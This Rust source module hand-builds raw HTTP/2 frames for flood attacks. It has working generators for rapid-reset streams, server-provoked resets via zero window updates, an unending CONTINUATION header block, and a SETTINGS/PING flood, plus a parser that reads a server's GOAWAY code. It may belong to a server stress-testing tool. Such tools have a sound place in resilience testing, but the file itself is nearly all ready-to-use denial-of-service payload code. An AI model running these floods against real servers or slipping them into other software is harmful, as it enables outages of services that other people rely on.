//! HTTP/2 frames made by hand, for floods that no client library sends.

/// What every HTTP/2 connection begins with: the preface and empty settings.
pub(crate) fn preface() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// GET, https, / from the static table, and `frame` as the authority.
const GET: &[u8] = b"\x82\x87\x84\x41\x05frame";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut out = vec![length[1], length[2], length[3], kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A source of pieces: the preface, then what `more` makes of the numbers of new streams.
fn flood(each: usize, more: impl Fn(u32, &mut Vec<u8>)) -> impl FnMut() -> Vec<u8> {
    let mut stream = 1_u32;
    move || {
        let mut out = if stream == 1 { preface() } else { Vec::new() };
        for _ in 0..each {
            more(stream, &mut out);
            stream += 2;
        }
        out
    }
}

/// Requests taken back as soon as they are made.
pub(crate) fn rapid_reset() -> impl FnMut() -> Vec<u8> {
    flood(500, |stream, out| {
        out.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
        out.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    })
}

/// Requests whose mistakes make the server itself take them back.
pub(crate) fn made_to_reset() -> impl FnMut() -> Vec<u8> {
    flood(500, |stream, out| {
        out.extend(frame(HEADERS, END_HEADERS, stream, GET));
        out.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
    })
}

/// One request whose head never ends.
pub(crate) fn endless_head() -> impl FnMut() -> Vec<u8> {
    let mut begun = false;
    move || {
        let mut out = Vec::new();
        if !begun {
            begun = true;
            out = preface();
            out.extend(frame(HEADERS, 0, 1, GET));
        }
        for _ in 0..20 {
            // A literal without an index: name of 4 bytes, value of 100.
            let mut block = b"\x00\x04x-ab\x64".to_vec();
            block.resize(block.len() + 100, b'y');
            out.extend(frame(CONTINUATION, 0, 1, &block));
        }
        out
    }
}

/// Settings and pings that all want an answer.
pub(crate) fn small_talk() -> impl FnMut() -> Vec<u8> {
    let mut talk = preface();
    move || {
        let mut out = std::mem::take(&mut talk);
        for _ in 0..500 {
            out.extend(frame(SETTINGS, 0, 0, &[]));
            out.extend(frame(PING, 0, 0, &[7; 8]));
        }
        out
    }
}

/// Whether the server said why it ends (GOAWAY), and with which code.
pub(crate) fn farewell(mut heard: &[u8]) -> Option<u32> {
    while let [l0, l1, l2, kind, _, _, _, _, _, rest @ ..] = heard {
        let length = u32::from_be_bytes([0, *l0, *l1, *l2]) as usize;
        if *kind == 7 {
            let code = rest.get(4..8)?;
            return Some(u32::from_be_bytes(code.try_into().unwrap()));
        }
        heard = rest.get(length..)?;
    }
    None
}
